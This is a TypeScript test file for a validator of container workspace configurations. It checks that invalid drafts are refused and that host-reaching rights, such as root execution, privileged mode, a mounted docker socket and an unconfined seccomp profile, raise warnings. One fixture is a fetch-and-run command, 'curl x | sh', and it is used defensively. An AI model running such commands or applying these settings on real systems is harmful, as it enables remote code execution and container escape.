import { describe, expect, it } from 'vitest';
import { mustBeShown, warningKey } from '../../common/registry/shown.ts';
import { draftOf } from '../testing/scene.ts';
import { judgeDraft, refuseInvalid, refuseUnshown } from './judge.ts';
import { columnsOf, differences, draftOf as draftOfRow } from './record.ts';

const plain = draftOf('example/desktop:1');
const rooted = { ...plain, execConfig: { first_launch: { cmd: 'id', user: 'root' } } };

describe('a draft', () => {
  it('that sets nothing is judged to be fine', () => {
    const judgement = judgeDraft(plain);
    expect(judgement).toEqual({ problems: [], warnings: [] });
    refuseInvalid(judgement);
    refuseUnshown(judgement.warnings, []);
  });

  it.each([
    [{ image: 'not an image' }, 'image'],
    [{ runConfig: { ports: 'nonsense' } }, 'run_config.ports'],
    [{ execConfig: { first_launch: { cmd: 5 } } }, 'exec_config'],
    [{ volumeMappings: { '/host': { bind: 'relative' } } }, 'volume_mappings'],
    [{ persistentProfilePath: '/etc/{username}' }, 'persistent_profile_path'],
  ])('with a mistake is refused, naming where: %j', (patch, property) => {
    const judgement = judgeDraft({ ...plain, ...patch });
    expect(judgement.problems.map((problem) => problem.property)[0]).toContain(property);
    expect(() => refuseInvalid(judgement)).toThrow(expect.objectContaining({ code: 'WORKSPACE_INVALID' }));
  });

  it('that names keys nobody knows is told, not refused', () => {
    const judgement = judgeDraft({ ...plain, runConfig: { frobnicate: true } });
    expect(judgement.problems).toMatchObject([{ severity: 'warning', property: 'run_config.frobnicate' }]);
    refuseInvalid(judgement);
  });
});

describe('rights', () => {
  it.each([
    ['exec_config as root', rooted],
    ['exec_config as the ordinary user', { ...plain, execConfig: { first_launch: { cmd: 'sh -c "curl x | sh"' } } }],
    ['a session as root', { ...plain, runConfig: { user: 'root' } }],
    ['a profile in a system folder', { ...plain, persistentProfilePath: '/opt/x/{username}' }],
    ['a privileged container', { ...plain, runConfig: { privileged: true } }],
    ['the socket of the engine', { ...plain, volumeMappings: { '/var/run/docker.sock': { bind: '/x', mode: 'rw' } } }],
  ])('that reach the host have to be shown: %s', (_what, draft) => {
    const { warnings } = judgeDraft(draft);
    const shown = mustBeShown(warnings);
    expect(shown.length).toBeGreaterThan(0);
    expect(() => refuseUnshown(warnings, [])).toThrow(expect.objectContaining({ code: 'WARNINGS_NOT_SHOWN' }));
    expect(() => refuseUnshown(warnings, shown.slice(1).map(warningKey))).toThrow();
    refuseUnshown(warnings, shown.map(warningKey));
  });

  it('were shown for one command, and not for another in its place', () => {
    const draft = (cmd: string) => ({ ...plain, execConfig: { go: { cmd }, assign: { cmd: 'id', user: 0 } } });
    const shown = judgeDraft(draft('xdg-open "$KASM_URL"')).warnings.map(warningKey);
    refuseUnshown(judgeDraft(draft('xdg-open "$KASM_URL"')).warnings, shown);
    const other = judgeDraft(draft('sh -c "curl x | sh"')).warnings;
    expect(() => refuseUnshown(other, shown)).toThrow(
      expect.objectContaining({ message: expect.stringContaining('exec_config.go.cmd') as string }),
    );
  });

  it('of an image without encryption are told, however it was named', () => {
    const { warnings } = judgeDraft({ ...plain, dockerRegistry: 'http://images.example:5000' });
    expect(warnings.map(({ id }) => id)).toEqual(['plain_registry']);
  });

  it('of a weakened sandbox are told and not asked about', () => {
    const { warnings } = judgeDraft({ ...plain, runConfig: { security_opt: ['seccomp=unconfined'] } });
    expect(warnings.length).toBeGreaterThan(0);
    refuseUnshown(warnings, []);
  });
});

describe('a record', () => {
  const full = draftOf('example/desktop:1', {
    friendlyName: 'Ünïcode',
    dockerRegistry: 'registry.example',
    categories: ['A', 'B'],
    shmSizeBytes: 1,
    environment: { A: 'b' },
    persistentProfilePath: '/p',
    sizeBytes: 5,
    target: { kind: 'tags', tags: ['x'] },
  });

  it('gives a draft back as it was saved', () => {
    const columns = columnsOf(full);
    const row = { ...columns, id: 'w', kind: 'container', created_at: 1, updated_at: 1 };
    expect(draftOfRow(row as Parameters<typeof draftOfRow>[0])).toEqual(full);
  });

  it('tells what differs, property by property', () => {
    expect(differences(full, full)).toEqual([]);
    expect(differences(full, { ...full, cores: 4, runConfig: { hostname: 'x' } })).toEqual([
      { property: 'cores', from: 1, to: 4 },
      { property: 'runConfig', from: {}, to: { hostname: 'x' } },
    ]);
  });
});
